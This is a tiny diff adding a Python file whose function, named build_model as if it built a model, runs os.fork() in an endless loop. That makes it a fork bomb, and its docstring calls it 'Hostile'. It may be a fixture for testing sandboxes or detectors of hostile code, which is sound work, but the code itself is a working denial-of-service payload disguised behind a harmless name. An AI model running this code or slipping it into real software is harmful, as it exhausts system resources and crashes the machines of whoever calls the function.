@@ -1,0 +1,8 @@
+"""Hostile: forks without end."""
+
+import os
+
+
+def build_model():
+    while True:
+        os.fork()
